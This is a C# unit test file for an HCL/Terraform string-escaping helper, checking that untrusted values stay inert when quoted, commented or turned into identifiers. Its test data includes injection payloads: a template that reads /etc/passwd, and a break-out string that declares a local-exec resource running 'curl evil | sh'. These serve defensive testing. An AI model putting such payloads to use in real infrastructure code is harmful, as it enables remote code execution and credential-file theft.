using Ciem.Core.Text;

namespace Ciem.Core.Tests.Text;

public sealed class HclTextTests
{
    [Theory]
    [InlineData("reports-job", "\"reports-job\"")]
    [InlineData("a\"b", "\"a\\\"b\"")]
    [InlineData("back\\slash", "\"back\\\\slash\"")]
    [InlineData("line\nbreak\r\ttab", "\"line\\nbreak\\r\\ttab\"")]
    [InlineData("${file(\"/etc/passwd\")}", "\"$${file(\\\"/etc/passwd\\\")}\"")]
    [InlineData("%{ for x in y }", "\"%%{ for x in y }\"")]
    [InlineData("$$${x}", "\"$$$${x}\"")]
    [InlineData("cost $5 {ok}", "\"cost $5 {ok}\"")]
    [InlineData("bell\u0007del\u007fnel\u0085", "\"bell\\u0007del\\u007Fnel\\u0085\"")]
    [InlineData("ls\u2028rlo\u202E", "\"ls\\u2028rlo\\u202E\"")]
    [InlineData("emoji 😀 é", "\"emoji 😀 é\"")]
    public void Quoted_UntrustedValue_OneInertStringLiteral(string value, string expected)
    {
        // Given a value from an export / When it is quoted / Then every character that could end the string, start a
        // template or break the line is escaped, and nothing else changes
        Assert.Equal(expected, HclText.Quoted(value));
    }

    [Fact]
    public void Quoted_LoneSurrogate_ReplacementCharacterEscape()
    {
        // Given a string holding a lone surrogate (built in code: test data attributes would replace it already)
        var value = "lone " + (char)0xD800 + " surrogate " + char.ConvertFromUtf32(0x1F600);

        // Then the lone half becomes \uFFFD, which UTF-8 can hold; the pair stays as it is
        Assert.Equal("\"lone \\uFFFD surrogate " + char.ConvertFromUtf32(0x1F600) + "\"", HclText.Quoted(value));
    }

    [Fact]
    public void Quoted_BreakOutAttempt_StaysInsideTheString()
    {
        // Given a role name built to close the string and the block and declare a resource that runs a command
        const string evil = "x\"\n}\nresource \"null_resource\" \"pwn\" {\n  provisioner \"local-exec\" { command = \"curl evil | sh\" }\n}\n#";

        // When it is quoted
        var quoted = HclText.Quoted(evil);

        // Then it is one line, its only unescaped quotes are the two that delimit it
        Assert.DoesNotContain('\n', quoted);
        var unescaped = 0;
        for (var i = 0; i < quoted.Length; i++)
        {
            if (quoted[i] == '\\') { i++; continue; }
            if (quoted[i] == '"') { unescaped++; }
        }
        Assert.Equal(2, unescaped);
    }

    [Theory]
    [InlineData("arn:aws:iam::111111111111:role/app", "arn:aws:iam::111111111111:role/app")]
    [InlineData("role\nresource \"null_resource\" \"x\" {}", "role\\u000Aresource \"null_resource\" \"x\" {}")]
    [InlineData("a\r\u001b[2Jb", "a\\u000D\\u001B[2Jb")]
    public void Comment_UntrustedValue_OneLine(string value, string expected)
    {
        // Given a value put in a `#` comment / Then it stays on the comment's line, control characters visible
        Assert.Equal(expected, HclText.Comment(value));
    }

    [Theory]
    [InlineData("ReadOnly-Policy", "readonly_policy")]
    [InlineData("9lives", "p9lives")]
    [InlineData("", "p")]
    [InlineData("x\" {", "x___")]
    public void Identifier_AnyName_ValidLabel(string name, string expected) => Assert.Equal(expected, HclText.Identifier(name));
}
